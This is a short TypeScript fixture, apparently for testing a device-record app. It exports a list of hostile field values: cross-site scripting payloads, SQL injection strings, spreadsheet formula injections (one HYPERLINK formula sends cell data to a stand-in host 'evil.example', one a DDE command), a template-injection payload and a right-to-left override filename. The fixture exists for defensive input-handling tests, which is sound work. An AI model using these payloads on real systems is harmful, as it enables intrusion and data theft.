/**
 * Device fields an attacker (or a careless export) could fill: markup and script, SQL fragments, spreadsheet
 * formulas. They are data: stored and given back byte for byte, and neutralised where a file format would run them.
 */
export const HOSTILE = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '"><svg onload=window.__pwned=1>',
  "Robert'); DROP TABLE device; --",
  '1" OR "1"="1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|',
  'Radiology;=1+2;-3',
  '{{constructor.constructor("window.__pwned=1")()}}',
  'A\u202eevil.exe',
] as const;
